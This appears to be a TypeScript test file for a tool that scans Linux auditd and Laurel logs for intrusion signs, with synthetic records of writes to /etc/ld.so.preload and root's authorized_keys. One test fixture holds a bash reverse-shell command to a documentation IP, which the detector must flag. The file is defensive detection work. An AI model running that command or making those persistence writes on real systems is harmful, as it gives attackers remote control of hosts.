import { deepEqual, equal, match } from 'node:assert/strict';
import { digestOf, findingsOf } from './logs';

const begin = 1_796_000_000;

const found = async (log: string) =>
  findingsOf(await digestOf({ 'audit.log': log })).map(({ finding, text }) => ({ finding, text }));

interface Written {
  readonly program: string;
  readonly path: string;
  readonly nameType?: string;
  readonly flags?: string;
  readonly success?: string;
}

/** Two lines of auditd for each. */
const auditd = (files: readonly Written[]) =>
  files
    .flatMap(({ program, path, nameType = 'NORMAL', flags = '241', success = 'yes' }, index) => {
      const head = `msg=audit(${begin + index}.123:${100 + index}):`;
      return [
        `type=SYSCALL ${head} arch=c000003e syscall=257 success=${success} exit=3 a0=ffffff9c a1=55d a2=${flags} a3=1b6 ppid=1 pid=${index + 1} auid=1000 uid=0 comm="x" exe="${program}" key="w"`,
        `type=PATH ${head} item=1 name="${path}" inode=12 dev=fd:00 mode=0100644 nametype=${nameType} cap_fp=0`,
      ];
    })
    .join('\n');

describe('files that Linux’s audit saw written', () => {
  it('tell of what comes again: keys, scheduled tasks, libraries for every program', async () => {
    const [one] = await found(
      auditd([
        { program: '/usr/bin/bash', path: '/etc/ld.so.preload', nameType: 'CREATE' },
        { program: '/usr/bin/python3', path: '/root/.ssh/authorized_keys', flags: '441' },
      ]),
    );

    equal(one?.finding, 'medium');
    match(one?.text ?? '', /bash > \/etc\/ld\.so\.preload; .*python3 > \/root\/\.ssh\/authorized_keys/);
  });

  it('tell nothing where they were read, refused, or written by a package', async () => {
    const files: readonly Written[] = [
      { program: '/usr/sbin/sshd', path: '/root/.ssh/authorized_keys', flags: '80000' },
      { program: '/usr/bin/bash', path: '/etc/ld.so.preload', success: 'no' },
      { program: '/usr/bin/dpkg', path: '/etc/cron.d/php', nameType: 'CREATE' },
      { program: '/usr/bin/vim', path: '/etc/hosts' },
    ];

    deepEqual(await found(auditd(files)), []);
  });
});

describe('events of Linux’s audit as Laurel writes them', () => {
  const laurel = (records: Readonly<Record<string, unknown>>, at: number) =>
    JSON.stringify({ ID: `${begin + at}.720:${at}`, NODE: 'web07', ...records });
  const call = { syscall: 59, success: 'yes', exe: '/usr/bin/bash', AUID: 'ann', SYSCALL: 'execve' };
  const shell = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';

  it('have their time, and what was started in a list, in one text or in numbered parts', async () => {
    for (const EXECVE of [
      { argc: 3, ARGV: ['bash', '-c', shell] },
      { argc: 3, ARGV_STR: `bash -c '${shell}'` },
      { argc: 3, a0: 'bash', a1: '-c', a2: shell },
    ]) {
      const made = await digestOf({ 'laurel.log': laurel({ SYSCALL: call, EXECVE }, 1) });

      equal(made.totals.first, begin + 1.72);
      match(findingsOf(made)[0]?.text ?? '', /^high · launches: web07 by ann: gives a shell to another host/);
    }
  });

  it('have the files that were written', async () => {
    const records = {
      SYSCALL: { ...call, syscall: 257, SYSCALL: 'openat', a2: '0x241' },
      PATH: [
        { item: 0, name: '/etc/', nametype: 'PARENT' },
        { item: 1, name: '/etc/ld.so.preload', nametype: 'CREATE' },
      ],
    };

    match((await found(laurel(records, 2)))[0]?.text ?? '', /a library loaded into every program/);
  });

  it('are no event where an object only begins like one', async () => {
    deepEqual(await found('{"ID":"7","EXECVE":{"ARGV":["bash","-c","\\q"]}}\n{"ID":7}'), []);
  });
});
